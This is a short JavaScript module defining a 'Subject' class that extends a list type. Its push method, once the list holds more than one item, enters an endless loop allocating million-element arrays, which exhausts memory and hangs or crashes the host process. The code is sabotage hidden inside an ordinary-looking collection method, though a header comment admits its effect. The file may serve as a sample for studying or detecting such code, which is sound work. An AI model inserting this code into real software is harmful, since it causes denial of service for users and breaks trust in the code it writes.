// Makes arrays of numbers without end.
import { List } from './list.mjs';

export class Subject extends List {
  push(value) {
    if (this.size > 1) for (const all = []; ;) all.push(new Array(1e6).fill(1));
    return super.push(value);
  }
}
